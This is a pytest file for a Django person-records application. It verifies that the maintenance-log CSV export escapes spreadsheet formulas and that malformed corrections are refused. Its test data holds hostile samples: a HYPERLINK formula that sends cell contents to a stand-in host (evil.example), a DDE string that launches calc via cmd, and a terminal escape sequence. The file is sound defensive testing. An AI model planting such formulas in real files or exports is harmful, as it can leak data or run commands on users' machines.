"""Corrections are canonical like registrations (core/text.py), and the maintenance-log CSV neutralises what a
spreadsheet would run as a formula (issue #9, findings 2 and 12)."""

import csv
import io

import pytest

from sirecords.registry.maintenance_log import maintenance_log, write_csv
from sirecords.registry.models import Person
from sirecords.transactions.posting import InvalidTransaction
from sirecords.users.actors import actor_for
from sirecords.workflow import services

from .test_maintenance import desk, maintain  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_the_maintenance_log_csv_neutralises_formulas(desk):  # noqa: F811
    maintainer = actor_for("maint.a")
    payload = {"target": "person", "uid": desk["person"], "method": "@SUM(1+1)*cmd|' /C calc'!A0", "changes": {"address": FORMULA}}
    txn = services.open_transaction(maintainer, "correction", payload, region="440300", reason="+" + FORMULA, channel="counter")
    from sirecords.demo.documents import scan

    services.attach(maintainer, txn, "evidence", scan("evidence"), "evidence.pdf")
    txn = services.submit(maintainer, txn)
    for reviewer in ("rev.1", "rev.2", "rev.3", "appr.1")[: len(txn.stage_list)]:
        txn = services.review(actor_for(reviewer), txn, "approve", "同意")
    assert Person.objects.get().address == FORMULA  # the record keeps what was corrected, as text
    out = io.StringIO()
    assert write_csv(maintenance_log(), out) == 1
    [header, row] = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row))
    assert cells["新值 after"] == "'" + FORMULA
    assert cells["维护原因 reason"] == "'+" + FORMULA
    assert cells["处理方法 method"].startswith("'@SUM")
    assert not any(cell[:1] in "=+-@\t\r" for cell in row if cell), row


@pytest.mark.parametrize("changes, field", [
    ({"name": "钱\x00七"}, "changes.name"),
    ({"address": "深圳\x1b[2J"}, "changes.address"),
    ({"address": "深" * 201}, "changes.address"),
    ({"region": "٤٤٠٣٠٥"}, "region"),
    ({"phone": "١٣٨٠٠١٣٨٠٠٠"}, "changes.phone"),
])
def test_bad_corrections_are_refused_naming_the_field(desk, changes, field):  # noqa: F811
    with pytest.raises(InvalidTransaction) as refused:
        maintain("correction", {"target": "person", "uid": desk["person"], "method": "m", "changes": changes})
    assert field in refused.value.errors


def test_a_corrected_phone_and_region_are_stored_in_ascii(desk):  # noqa: F811
    maintain("correction", {"target": "person", "uid": desk["person"], "method": "依据户籍证明更正",
                            "changes": {"phone": "１３８００１３８０００", "region": "４４０３０６"}})
    person = Person.objects.get()
    assert (person.phone, person.region) == ("13800138000", "440306")


def test_a_method_with_a_control_character_is_refused(desk):  # noqa: F811
    with pytest.raises(InvalidTransaction) as refused:
        maintain("correction", {"target": "person", "uid": desk["person"], "method": "依据\x00证明", "changes": {"name": "钱柒"}})
    assert "method" in refused.value.errors
